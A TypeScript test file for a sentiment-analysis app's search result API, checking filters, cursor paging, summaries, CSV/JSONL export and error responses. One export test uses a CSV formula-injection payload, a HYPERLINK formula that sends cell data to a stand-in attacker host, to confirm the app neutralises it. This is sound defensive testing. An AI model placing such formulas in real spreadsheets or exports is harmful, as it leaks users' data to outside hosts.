import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GET as exportRoute } from "@/app/api/searches/[id]/export/route";
import { GET as itemsRoute } from "@/app/api/searches/[id]/items/route";
import { GET as summaryRoute } from "@/app/api/searches/[id]/summary/route";
import { prisma } from "@/lib/db";
import { env } from "@/lib/env";
import { getSharedTcpConnection } from "@/lib/redis/tcp-connection";
import type { ItemsPage, ResultItem, SearchSummary, SentimentLabel } from "@/lib/results/types";
import { addPrediction, callRoute, createModel, createPredictedItem, createSearch, type TestModel } from "@/test/helpers/annotation-fixtures";
import { parseCsv } from "@/test/helpers/parse-csv";
import { createSignedInUser, type TestAccount } from "@/test/helpers/sessions";

// GET /api/searches/:id/{items,summary,export} on the real database: every filter, keyset pages while items keep
// arriving, the export equal to the filtered rows, and the 422 / 404 / 403 answers.

type Spec = {
  key: string;
  label: SentimentLabel;
  confidence: number; // of the label; the other two share the rest
  subreddit: string;
  kind: "post" | "comment";
  day: string;
  human?: SentimentLabel | "off_topic";
  title?: string;
};

const SPECS: Spec[] = [
  { key: "a", label: "positive", confidence: 0.9, subreddit: "SteamDeck", kind: "post", day: "2026-01-01", human: "positive", title: "Love the OLED screen" },
  { key: "b", label: "negative", confidence: 0.8, subreddit: "SteamDeck", kind: "comment", day: "2026-01-01", human: "neutral" },
  { key: "c", label: "neutral", confidence: 0.5, subreddit: "rust", kind: "post", day: "2026-01-03", title: "Fan noise, 100% of the time" },
  { key: "d", label: "positive", confidence: 0.6, subreddit: "rust", kind: "comment", day: "2026-01-03", human: "off_topic" },
  { key: "e", label: "negative", confidence: 0.95, subreddit: "linux_gaming", kind: "post", day: "2026-01-10", title: "Battery life is bad" },
  { key: "f", label: "positive", confidence: 0.4, subreddit: "SteamDeck", kind: "post", day: "2026-01-10", title: "Docked, it works" },
];

const probabilitiesOf = (spec: Spec) => {
  const rest = (1 - spec.confidence) / 2;
  return { negative: rest, neutral: rest, positive: rest, [spec.label]: spec.confidence } as Record<SentimentLabel, number>;
};

async function setVerdict(itemId: string, verdict: SentimentLabel | "off_topic") {
  const data = verdict === "off_topic" ? { label: null, offTopic: true } : { label: verdict, offTopic: false };
  await prisma.itemLabel.upsert({ where: { itemId }, create: { itemId, answers: 1, source: "single", ...data }, update: data });
}

describe("the result API", () => {
  let analyst: TestAccount;
  let model: TestModel;
  let searchId: string;
  const idOf = new Map<string, string>();
  const keyOf = new Map<string, string>();

  const get = async <T,>(handler: typeof itemsRoute, path: string, account = analyst) =>
    callRoute(handler, { method: "GET", path, cookie: account.cookie, params: { id: path.split("/")[3]! } }) as Promise<{ status: number; json: T }>;
  const items = (params = "") => get<ItemsPage>(itemsRoute, `/api/searches/${searchId}/items?${params}`);
  const keys = (page: { json: ItemsPage }) => page.json.items.map((item) => keyOf.get(item.id)).sort();

  beforeAll(async () => {
    analyst = await createSignedInUser("analyst");
    model = createModel();
    searchId = (await createSearch()).id;
    for (const spec of SPECS) {
      const id = await createPredictedItem({
        model, searchId, kind: spec.kind, subreddit: spec.subreddit, title: spec.title,
        createdUtc: new Date(`${spec.day}T12:00:00Z`), probabilities: probabilitiesOf(spec),
      });
      if (spec.human) await setVerdict(id, spec.human);
      idOf.set(spec.key, id);
      keyOf.set(id, spec.key);
    }
    // Two annotators disagreed on c and nobody settled it: a tie is no verdict (not corrected, not answered).
    await prisma.itemLabel.create({ data: { itemId: idOf.get("c")!, label: null, tie: true, disagreement: true, answers: 2 } });
    // Another search's item is never part of this one's results.
    await createPredictedItem({ model, searchId: (await createSearch()).id, createdUtc: new Date("2026-01-02T00:00:00Z") });
  });
  afterAll(() => getSharedTcpConnection().quit());

  describe("GET items", () => {
    it("lists the search's items newest first with the model and human labels", async () => {
      const page = await items();
      expect(page.status).toBe(200);
      expect(page.json.nextCursor).toBeNull();
      // Newest first; items of the same instant by id, descending.
      const expected = SPECS.map((spec) => ({ day: spec.day, id: idOf.get(spec.key)! }))
        .sort((x, y) => y.day.localeCompare(x.day) || (y.id > x.id ? 1 : -1))
        .map((entry) => entry.id);
      expect(page.json.items.map((item) => item.id)).toEqual(expected);
      const a = page.json.items.find((item) => item.id === idOf.get("a"))!;
      expect(a).toMatchObject<Partial<ResultItem>>({
        kind: "post", subreddit: "SteamDeck", title: "Love the OLED screen", createdUtc: "2026-01-01T12:00:00.000Z",
        modelLabel: "positive", humanLabel: "positive", score: 3,
      });
      expect(a.modelConfidence).toBeCloseTo(0.9);
      expect(a.permalink).toMatch(/^https:\/\/www\.reddit\.com\/r\/SteamDeck\/comments\//);
      expect(page.json.items.find((item) => item.id === idOf.get("d"))!.humanLabel).toBe("off_topic");
      expect(page.json.items.find((item) => item.id === idOf.get("c"))!.humanLabel).toBeNull();
    });

    it.each([
      ["label=positive", ["a", "d", "f"]],
      ["subreddit=steamdeck", ["a", "b", "f"]],
      ["subreddit=r/rust", ["c", "d"]],
      ["from=2026-01-03", ["c", "d", "e", "f"]],
      ["to=2026-01-03", ["a", "b", "c", "d"]],
      ["from=2026-01-01T13:00:00Z&to=2026-01-03T12:00:00Z", ["c", "d"]],
      ["to=2026-01-03T11:59:59.999Z", ["a", "b"]],
      ["minConfidence=0.8", ["a", "b", "e"]],
      ["maxConfidence=0.5", ["c", "f"]],
      ["minConfidence=0.5&maxConfidence=0.8", ["b", "c", "d"]],
      ["corrected=true", ["a", "b", "d"]],
      ["corrected=false", ["c", "e", "f"]],
      ["kind=comment", ["b", "d"]],
      ["kind=post", ["a", "c", "e", "f"]],
      ["q=oled", ["a"]],
      ["q=100%25", ["c"]], // "100%": the percent sign is literal, not a wildcard
      ["q=b_dy", []], // "_" is literal too: it would match every "body of …"
      ["label=positive&subreddit=SteamDeck&kind=post&corrected=false", ["f"]],
      ["label=neutral&", ["c"]], // an empty parameter means "not given"
    ])("filters: %s", async (params, expected) => {
      const page = await items(params);
      expect(page.status, JSON.stringify(page.json)).toBe(200);
      expect(keys(page)).toEqual(expected);
    });

    it("pages with a cursor without gaps or repeats while new items arrive between pages", async () => {
      const search = await createSearch();
      const at = (minutes: number) => new Date(Date.UTC(2026, 1, 1, 0, minutes));
      const original = new Set<string>();
      // Pairs share a timestamp, so the id alone orders them: the cursor must carry both.
      for (let k = 0; k < 24; k++) original.add(await createPredictedItem({ model, searchId: search.id, createdUtc: at(Math.floor(k / 2)) }));
      const seen: ResultItem[] = [];
      let cursor: string | null = null;
      let arrivals = 0;
      do {
        const query: string = `limit=5${cursor ? `&cursor=${cursor}` : ""}`;
        const page: { status: number; json: ItemsPage } = await get<ItemsPage>(itemsRoute, `/api/searches/${search.id}/items?${query}`);
        expect(page.status).toBe(200);
        seen.push(...page.json.items);
        cursor = page.json.nextCursor;
        // Newer, older and same-time items land while the client reads.
        await createPredictedItem({ model, searchId: search.id, createdUtc: at(60 + arrivals) });
        await createPredictedItem({ model, searchId: search.id, createdUtc: at(arrivals % 12) });
        arrivals++;
      } while (cursor);
      const ids = seen.map((item) => item.id);
      expect(new Set(ids).size).toBe(ids.length);
      for (const id of original) expect(ids).toContain(id);
      const positions = seen.map((item) => [item.createdUtc, item.id] as const);
      for (let k = 1; k < positions.length; k++) {
        const [previous, current] = [positions[k - 1]!, positions[k]!];
        expect(previous[0] > current[0] || (previous[0] === current[0] && previous[1] > current[1])).toBe(true);
      }
    });

    it("keeps the filters across pages", async () => {
      const first = await items("kind=post&limit=3");
      expect(first.json.items).toHaveLength(3);
      const second = await items(`kind=post&limit=3&cursor=${first.json.nextCursor}`);
      expect([...keys(first), ...keys(second)].sort()).toEqual(["a", "c", "e", "f"]);
      expect(second.json.nextCursor).toBeNull();
    });
  });

  describe("GET summary", () => {
    it("counts model labels, human verdicts, days (gaps filled) and subreddits", async () => {
      const response = await get<SearchSummary>(summaryRoute, `/api/searches/${searchId}/summary`);
      expect(response.status).toBe(200);
      const summary = response.json;
      expect(summary.total).toBe(6);
      expect(summary.labels).toEqual({ negative: 2, neutral: 1, positive: 3 });
      expect(summary.human).toEqual({ negative: 0, neutral: 1, positive: 1, offTopic: 1, answered: 3 });
      expect(summary.rawShares.positive).toBeCloseTo(0.5);
      expect(summary.adjusted).toBeNull();
      expect(summary.adjustedNote).toMatch(/2 answered items .* at least 30/);
      expect(summary.bucket).toBe("day");
      expect(summary.overTime.map((b) => b.bucket)).toEqual(
        ["2026-01-01", "2026-01-02", "2026-01-03", "2026-01-04", "2026-01-05", "2026-01-06", "2026-01-07", "2026-01-08", "2026-01-09", "2026-01-10"],
      );
      expect(summary.overTime[0]).toEqual({ bucket: "2026-01-01", negative: 1, neutral: 0, positive: 1 });
      expect(summary.overTime[1]).toEqual({ bucket: "2026-01-02", negative: 0, neutral: 0, positive: 0 });
      expect(summary.bySubreddit).toEqual([
        { subreddit: "SteamDeck", total: 3, negative: 1, neutral: 0, positive: 2 },
        { subreddit: "rust", total: 2, negative: 0, neutral: 1, positive: 1 },
        { subreddit: "linux_gaming", total: 1, negative: 1, neutral: 0, positive: 0 },
      ]);
    });

    it("weeks start on Monday; the filters narrow every part", async () => {
      const response = await get<SearchSummary>(summaryRoute, `/api/searches/${searchId}/summary?bucket=week&subreddit=SteamDeck`);
      expect(response.status).toBe(200);
      expect(response.json.total).toBe(3);
      expect(response.json.bySubreddit.map((s) => s.subreddit)).toEqual(["SteamDeck"]);
      // 2026-01-01 is a Thursday: its week starts on Monday 2025-12-29; 2026-01-10 is in the week of 2026-01-05.
      expect(response.json.overTime).toEqual([
        { bucket: "2025-12-29", negative: 1, neutral: 0, positive: 1 },
        { bucket: "2026-01-05", negative: 0, neutral: 0, positive: 1 },
      ]);
      const summary = async (params: string) => (await get<SearchSummary>(summaryRoute, `/api/searches/${searchId}/summary?${params}`)).json;
      expect((await summary("q=oled")).labels).toEqual({ negative: 0, neutral: 0, positive: 1 });
      expect((await summary("kind=comment")).human).toEqual({ negative: 0, neutral: 1, positive: 0, offTopic: 1, answered: 2 });
      expect((await summary("corrected=false&minConfidence=0.45")).total).toBe(2); // c (a tie) and e
      expect((await summary("from=2026-01-02&to=2026-01-09")).overTime.map((b) => b.bucket)).toEqual(["2026-01-03"]);
    });

    it("gives a corrected estimate with an interval from 30 answers on", async () => {
      const search = await createSearch();
      // 40 answered items: the model says positive for 10 items humans call neutral; 60 more are not answered.
      const plan: Array<[SentimentLabel, SentimentLabel | null, number]> = [
        ["positive", "positive", 12], ["positive", "neutral", 10], ["neutral", "neutral", 8], ["negative", "negative", 10],
        ["positive", null, 30], ["neutral", null, 15], ["negative", null, 15],
      ];
      for (const [label, human, count] of plan) {
        for (let k = 0; k < count; k++) {
          const id = await createPredictedItem({ model, searchId: search.id, probabilities: probabilitiesOf({ label, confidence: 0.7 } as Spec) });
          if (human) await setVerdict(id, human);
        }
      }
      const response = await get<SearchSummary>(summaryRoute, `/api/searches/${search.id}/summary`);
      const { adjusted, adjustedNote, rawShares } = response.json;
      expect(adjustedNote).toBeNull();
      expect(adjusted!.answered).toBe(40);
      expect(rawShares.positive).toBeCloseTo(0.52);
      // Corrected: almost half of the model's positives are neutral, so positive shrinks and neutral grows.
      expect(adjusted!.positive).toBeLessThan(rawShares.positive);
      expect(adjusted!.neutral).toBeGreaterThan(rawShares.neutral);
      expect(adjusted!.negative + adjusted!.neutral + adjusted!.positive).toBeCloseTo(1);
      for (const label of ["negative", "neutral", "positive"] as const) {
        expect(adjusted!.low[label]).toBeLessThanOrEqual(adjusted![label] + 1e-9);
        expect(adjusted!.high[label]).toBeGreaterThanOrEqual(adjusted![label] - 1e-9);
      }
    });
  });

  describe("GET export", () => {
    const download = (id: string, params: string) =>
      exportRoute(new Request(new URL(`/api/searches/${id}/export?${params}`, env.APP_URL), { headers: { cookie: analyst.cookie } }), {
        params: Promise.resolve({ id }),
      });

    it("CSV rows equal the filtered items, with awkward text intact and a file name", async () => {
      await prisma.redditItem.update({ where: { id: idOf.get("a")! }, data: { body: 'Says "great",\nthen: =SUM(1)' } });
      for (const filter of ["", "kind=post", "label=negative", "subreddit=rust&corrected=true"]) {
        const response = await download(searchId, `format=csv&${filter}`);
        expect(response.status).toBe(200);
        expect(response.headers.get("content-type")).toMatch(/^text\/csv/);
        expect(response.headers.get("content-disposition")).toMatch(new RegExp(`^attachment; filename="postmood-steam-deck-${searchId}\\.csv"$`));
        const rows = parseCsv(await response.text());
        const listed = (await items(`${filter}&limit=200`)).json.items;
        expect(rows.map((row) => row.id)).toEqual(listed.map((item) => item.id));
        for (const [k, row] of rows.entries()) {
          const item = listed[k]!;
          expect(row).toMatchObject({
            kind: item.kind, subreddit: item.subreddit, created_utc: item.createdUtc, permalink: item.permalink ?? "",
            title: item.title ?? "", text: item.text, model_label: item.modelLabel ?? "", human_label: item.humanLabel ?? "",
          });
          expect(Number(row.model_confidence)).toBeCloseTo(item.modelConfidence!);
        }
      }
      const rows = parseCsv(await (await download(searchId, "format=csv&q=oled")).text());
      expect(rows).toHaveLength(1);
      expect(rows[0]!.text).toBe('Says "great",\nthen: =SUM(1)');
    });

    it("CSV text cells a spreadsheet would run as a formula start with a quote; numbers and JSONL stay as they are", async () => {
      const search = await createSearch();
      const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';
      const id = await createPredictedItem({ model, searchId: search.id, title: formula });
      await prisma.redditItem.update({ where: { id }, data: { score: -3, body: "@SUM(1+1)", author: "+cmd" } });
      const comment = await createPredictedItem({ model, searchId: search.id, kind: "comment", createdUtc: new Date("2020-01-01T00:00:00Z") });
      await prisma.redditItem.update({ where: { id: comment }, data: { body: "\t=1+1", author: "-dash" } });
      const carriageReturn = await createPredictedItem({ model, searchId: search.id, createdUtc: new Date("2019-01-01T00:00:00Z") });
      await prisma.redditItem.update({ where: { id: carriageReturn }, data: { body: "\r=1+1" } });

      const rows = parseCsv(await (await download(search.id, "format=csv")).text());
      const row = (itemId: string) => rows.find((candidate) => candidate.id === itemId)!;
      expect(row(id)).toMatchObject({ title: `'${formula}`, text: "'@SUM(1+1)", author: "'+cmd", score: "-3" });
      expect(row(comment)).toMatchObject({ text: "'\t=1+1", author: "'-dash", score: "3" });
      expect(row(carriageReturn).text).toBe("'\r=1+1");
      expect(Number(row(id).model_confidence)).toBeGreaterThan(0); // numbers are never prefixed

      const lines = (await (await download(search.id, "format=jsonl")).text()).trimEnd().split("\n").map((line) => JSON.parse(line));
      expect(lines.find((line) => line.id === id)).toMatchObject({ title: formula, text: "@SUM(1+1)", author: "+cmd", score: -3 });
    });

    it("JSONL lines equal the filtered items across several batches", async () => {
      const search = await createSearch();
      const created = new Set<string>();
      for (let k = 0; k < 15; k++) created.add(await createPredictedItem({ model, searchId: search.id, createdUtc: new Date(Date.UTC(2026, 2, 1, k)) }));
      const response = await download(search.id, "format=jsonl");
      expect(response.headers.get("content-type")).toMatch(/^application\/x-ndjson/);
      const lines = (await response.text()).trimEnd().split("\n").map((line) => JSON.parse(line) as Record<string, unknown>);
      expect(lines).toHaveLength(15);
      expect(new Set(lines.map((line) => line.id))).toEqual(created);
      expect(Object.keys(lines[0]!)).toEqual(expect.arrayContaining(["id", "kind", "subreddit", "created_utc", "permalink", "title", "text", "model_label", "model_confidence", "human_label"]));
    });

    it("an empty view is a header-only CSV", async () => {
      const text = await (await download(searchId, "format=csv&q=nothing-matches-this")).text();
      expect(text.trim()).toBe("id,kind,subreddit,created_utc,permalink,title,text,model_label,model_confidence,human_label,author,score");
    });
  });

  describe("errors", () => {
    it.each([
      ["label=happy", "label"],
      ["minConfidence=1.5", "minConfidence"],
      ["maxConfidence=abc", "maxConfidence"],
      ["minConfidence=0.8&maxConfidence=0.2", "maxConfidence"],
      ["from=yesterday", "from"],
      ["to=2026-13-45", "to"],
      ["from=2026-02-01&to=2026-01-01", "to"],
      ["corrected=yes", "corrected"],
      ["kind=video", "kind"],
      ["cursor=bm90LWEtY3Vyc29y", "cursor"],
      ["cursor=%%%", "cursor"],
      ["limit=0", "limit"],
      ["limit=201", "limit"],
      [`q=${"x".repeat(201)}`, "q"],
    ])("items?%s → 422 naming %s", async (params, field) => {
      const response = await items(params);
      expect(response.status).toBe(422);
      expect(response.json).toMatchObject({ error: { code: "validation_failed" } });
      expect(Object.keys((response.json as unknown as { error: { fields: object } }).error.fields)).toEqual([field]);
    });

    it("summary and export check their own parameters", async () => {
      const summary = await get<{ error: { fields: object } }>(summaryRoute, `/api/searches/${searchId}/summary?bucket=month`);
      expect(summary.status).toBe(422);
      expect(Object.keys(summary.json.error.fields)).toEqual(["bucket"]);
      const exported = await get<{ error: { fields: object } }>(exportRoute, `/api/searches/${searchId}/export?format=xml`);
      expect(exported.status).toBe(422);
      expect(Object.keys(exported.json.error.fields)).toEqual(["format"]);
    });

    it("an unknown search is 404 and an annotator is refused with 403", async () => {
      const annotator = await createSignedInUser("annotator");
      for (const [handler, name] of [[itemsRoute, "items"], [summaryRoute, "summary"], [exportRoute, "export"]] as const) {
        const missing = await get<{ error: { code: string } }>(handler, `/api/searches/no-such-search/${name}`);
        expect(missing.status, name).toBe(404);
        expect(missing.json.error.code).toBe("not_found");
        const refused = await get<{ error: { code: string } }>(handler, `/api/searches/${searchId}/${name}`, annotator);
        expect(refused.status, name).toBe(403);
      }
      const admin = await createSignedInUser("admin");
      expect((await get(summaryRoute, `/api/searches/${searchId}/summary`, admin)).status).toBe(200);
    });
  });

  // Last: it makes a new model the current one.
  describe("summary of a stopped search (pre-aggregated)", () => {
    const summaryOf = async (id: string, params = "") => (await get<SearchSummary>(summaryRoute, `/api/searches/${id}/summary?${params}`)).json;

    it("is never stale: new hits, new predictions, new verdicts and a new model all show at once", async () => {
      const search = await createSearch(); // status done
      const first = await createPredictedItem({ model, searchId: search.id, probabilities: probabilitiesOf({ label: "positive", confidence: 0.8 } as Spec) });
      expect((await summaryOf(search.id)).labels).toEqual({ negative: 0, neutral: 0, positive: 1 });
      expect((await summaryOf(search.id, "subreddit=SteamDeck")).total).toBe(1); // now kept too

      // A hit added later (another key: the hit count), first without a prediction of the current model...
      const second = await createPredictedItem({ model: createModel(), searchId: search.id });
      await prisma.prediction.deleteMany({ where: { itemId: second } });
      expect(await summaryOf(search.id)).toMatchObject({ total: 2, labels: { negative: 0, neutral: 0, positive: 1 } });
      expect(await summaryOf(search.id, "subreddit=SteamDeck")).toMatchObject({ total: 2, labels: { negative: 0, neutral: 0, positive: 1 } });
      // ...then predicted: not fully predicted a moment ago, so nothing was kept, and the count is right.
      await addPrediction({ itemId: second, model, probabilities: probabilitiesOf({ label: "negative", confidence: 0.9 } as Spec) });
      expect((await summaryOf(search.id)).labels).toEqual({ negative: 1, neutral: 0, positive: 1 });
      expect((await summaryOf(search.id, "subreddit=SteamDeck")).labels).toEqual({ negative: 1, neutral: 0, positive: 1 });

      // Verdicts are always counted live.
      await setVerdict(first, "neutral");
      expect((await summaryOf(search.id)).human).toMatchObject({ neutral: 1, answered: 1 });

      // A new model is current as soon as it writes a prediction: its labels, not the kept ones.
      const next = createModel();
      await addPrediction({ itemId: first, model: next, probabilities: probabilitiesOf({ label: "neutral", confidence: 0.7 } as Spec) });
      expect((await summaryOf(search.id)).labels).toEqual({ negative: 0, neutral: 1, positive: 0 });
    });
  });
});
